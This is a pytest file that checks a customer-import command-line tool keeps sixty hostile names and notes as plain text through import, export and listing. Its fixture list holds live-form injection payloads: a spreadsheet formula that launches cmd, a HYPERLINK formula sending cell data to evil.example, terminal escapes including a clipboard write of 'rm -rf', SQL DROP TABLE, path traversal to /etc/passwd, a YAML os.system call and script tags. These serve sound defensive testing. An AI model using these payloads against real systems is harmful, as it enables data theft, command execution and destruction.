"""Sixty customers out to break an import: the program takes each as text, gives it back as it was, and obeys none."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from tests.cli.conftest import MONDAY

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Program

HOSTILE = {
    # what a spreadsheet would run
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example/?x="&A1,"Acme")',
    "plus": "+1+1",
    "minus": "-2+3 Consulting",
    "at": "@SUM(A1:A9)",
    "tab before": "\t=1+1",
    "return before": "\r=1+1",
    "line before": "\n=1+1",
    "wide equals": "\uff1d1+1",
    "wide at": "\uff20SUM(1)",
    "guarded": "'=1+1",
    "guarded twice": "''=1+1",
    "apostrophe": "'t Hoekje",
    # what a terminal would obey
    "clear": "Eve \x1b[2J\x1b[HMallory",
    "title": "Eve \x1b]0;owned\x07",
    "clipboard": "Eve \x1b]52;c;cm0gLXJm\x1b\\",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1": "Eve \x9b2J",
    "backspace": "Bob\x08\x08\x08Eve",
    "delete": "Bob\x7f",
    "override": "evil\u202egpj.exe",
    "isolate": "a\u2066b\u2069",
    "marks": "a\u200e\u200f\u061cb",
    "zero width": "Zero\u200bWidth\ufeff",
    # what is only text, and wide, joined or from the right
    "joined": "\U0001f469\u200d\U0001f4bb Dev",
    "flag": "\U0001f1e9\U0001f1ea Flagge",
    "combining": "Z\u0324\u0301a\u0300",
    "decomposed": "Zoe\u0308",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "cjk": "\u83ef\u590f\u79d1\u6280",
    # what a template, a shell, a database or a list would run
    "markup": "Acme [/b] [red]Ltd",
    "emoji code": ":smile: Ltd",
    "braces": "{{7*7}} {c.__class__.__mro__}",
    "percent": "%s%n%(name)s $name ${name}",
    "sql": "Robert'); DROP TABLE customer;--",
    "path": "../../../etc/passwd",
    "html": "<script>alert(1)</script>",
    "yaml": "- !!python/object/apply:os.system ['id']",
    "option": "--help",
    # what looks like something else
    "null": "NULL",
    "none": "None",
    "not a number": "nan",
    "true": "true",
    "exponent": "1e3",
    "zeros": "0123",
    "telephone": "+1 555 123 4567",
    "day and month": "1-2",
    "date": "2026-01-01",
    "total": "Total Wine",
    "grand total": "Grand Total",
    "sum": "Summe",
    "heading": "Name",
    # what stands at the edge of a cell, or ends its line
    "blanks": "   Leading and trailing   ",
    "feed": "New\nline",
    "return": "Car\rriage",
    "both": "Cr\r\nlf",
    "separators": "Line\u2028sep\u2029arated",
    "vertical": "Ver\x0btical\x0cfeed\x1c\x85",
    "quotes": "He said \"hi\", ok; 'no'",
    "long": "L" * 5000,
}
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u061c\u2028-\u202e\u2066-\u2069\ufeff]")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def crowd(tmp_path: Path, program: Program) -> Program:
    """All of them in one file, hostile in name and notes, and taken in."""
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(["Customer ID", "Name", "E-mail", "Notes", "Sale date"])
    for number, name in enumerate(HOSTILE.values()):
        writer.writerow([f"h{number}", name, f"h{number}@x.example", name, MONDAY])
    (tmp_path / "hostile.csv").write_bytes(text.getvalue().encode())
    said = answer(program, "import", tmp_path / "hostile.csv", "--playbook", "retail", "--json")
    assert (said["created"], said["sales_created"], said["rejected"]) == (len(HOSTILE), len(HOSTILE), [])
    return program


def run(program: Program, *args: str | Path) -> bytes:
    """Run what must succeed, and give what it prints."""
    done = program(*args)
    assert done.code == 0, done
    assert b"Traceback" not in done.err
    assert not OBEYED.search(done.err.decode())
    return done.out


def answer(program: Program, *args: str | Path) -> Any:
    """The object of a command run with --json."""
    return json.loads(run(program, *args))


def rows(table: bytes) -> list[dict[str, str]]:
    """The rows of an exported table."""
    return list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def test_every_text_comes_back_as_it_was_and_the_same_file_changes_nothing(crowd: Program, tmp_path: Path) -> None:
    kept = {row["external_id"]: (row["name"], row["notes"]) for row in rows(run(crowd, "export", "customers", "--raw"))}
    assert kept == {f"h{number}": (name, name) for number, name in enumerate(HOSTILE.values())}
    again = answer(crowd, "import", tmp_path / "hostile.csv", "--playbook", "retail", "--json")
    assert (again["created"], again["updated"], again["sales_created"]) == (0, 0, 0)


def test_a_raw_export_into_an_empty_file_gives_the_same_bytes(crowd: Program, tmp_path: Path) -> None:
    first = run(crowd, "export", "customers", "--raw")
    (tmp_path / "customers.csv").write_bytes(first)
    run(crowd, "--db", tmp_path / "other.db", "import", tmp_path / "customers.csv", "--json")
    assert run(crowd, "--db", tmp_path / "other.db", "export", "customers", "--raw") == first


def test_a_guarded_export_runs_nowhere_and_changes_nothing_when_it_comes_back(crowd: Program, tmp_path: Path) -> None:
    guarded = tmp_path / "guarded.csv"
    run(crowd, "export", "customers", "-o", guarded)
    cells = [cell for row in rows(guarded.read_bytes()) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(RUNS)] == []
    back = answer(crowd, "import", guarded, "--json")
    assert (back["created"], back["updated"], back["rejected"]) == (0, 0, [])


@pytest.mark.parametrize("args", [("due", "--all", "--days", "400"), ("list",)], ids=["due", "list"])
def test_a_pipe_has_a_line_for_each_and_nothing_that_a_terminal_obeys(crowd: Program, args: tuple[str, ...]) -> None:
    said = run(crowd, *args).decode()
    assert not OBEYED.search(said)
    items = answer(crowd, *args, "--json")["items"]
    assert len(said.removesuffix("\n").split("\n")) == len(items)
    assert {item["customer"] for item in items} == set(HOSTILE.values())
